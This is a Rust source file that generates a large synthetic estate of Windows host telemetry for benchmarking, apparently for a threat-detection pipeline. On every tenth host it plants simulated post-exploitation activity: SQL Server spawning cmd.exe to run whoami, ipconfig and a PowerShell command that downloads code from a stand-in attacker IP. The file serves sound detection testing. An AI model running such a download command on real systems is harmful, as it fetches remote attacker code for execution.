//! An estate of many hosts over many days, for measuring: as many process events as asked for, a tenth as many of files,
//! of the registry and of the network. It comes host by host, so that no size is too large for memory.

use serde_json::{Map, Value};

use super::host::{Host, SYSTEM_ACCOUNT, clock};
use super::images;
use super::ordinary::{Kind, Mix, boot};
use super::record::{Schema, Ticks, UnknownName};

const HOSTS: i64 = 250;
/// What one host does on one day.
const ACTS: i64 = 1_300;

const MIX: Mix = Mix(&[(76, Kind::Start), (8, Kind::Write), (8, Kind::Set), (8, Kind::Connect)]);

/// The rows of one host on one day after the other, until there are `processes` process events.
pub fn bulk(
    processes: usize,
    first_day: Ticks,
    schema: &Schema,
) -> impl Iterator<Item = Result<Vec<Map<String, Value>>, UnknownName>> {
    let mut made = 0;
    (0..).map_while(move |number| {
        (made < processes).then(|| {
            let rows = day_of_host(number, first_day, schema)?;
            made +=
                rows.iter().filter(|row| row.get("Type").is_some_and(|table| table == "DeviceProcessEvents")).count();
            Ok(rows)
        })
    })
}

fn day_of_host(number: i64, first_day: Ticks, schema: &Schema) -> Result<Vec<Map<String, Value>>, UnknownName> {
    let (device, day) = (number % HOSTS, first_day + number / HOSTS * super::DAY);
    let seed = 0x5eed_1000_u64.wrapping_add(number.unsigned_abs());
    let mut host = Host::new(&format!("srv{device:03}.corp.example"), "10.20.16.7", seed);
    host.variety = 250_000;
    let booted = boot(&mut host, clock(day, 0, 5, 0));
    if device % 10 == 0 {
        let (_, sql) = host.start(
            clock(day, 0, 6, 0),
            &booted.services,
            &images::SQLSERVR,
            &format!("\"{}\" -sMSSQLSERVER", images::SQLSERVR.path),
        );
        for (hour, command) in (1..).zip([
            "whoami",
            "ipconfig /all",
            "powershell -c \"(New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')\"",
        ]) {
            host.start(clock(day, hour, 0, 0), &sql, &images::CMD, &format!("\"cmd.exe\" /c {command}"));
        }
    }
    let (_, explorer) = host.start_as(
        clock(day, 0, 7, 0),
        &booted.services,
        &images::EXPLORER,
        r"C:\Windows\Explorer.EXE",
        &SYSTEM_ACCOUNT,
    );
    host.start(clock(day, 0, 7, 5), &explorer, &images::EDGE, &format!("\"{}\"", images::EDGE.path));
    booted.fill(&mut host, clock(day, 0, 10, 0), clock(day, 23, 50, 0), ACTS, &MIX);
    host.finish(schema).map(|(rows, _)| rows)
}
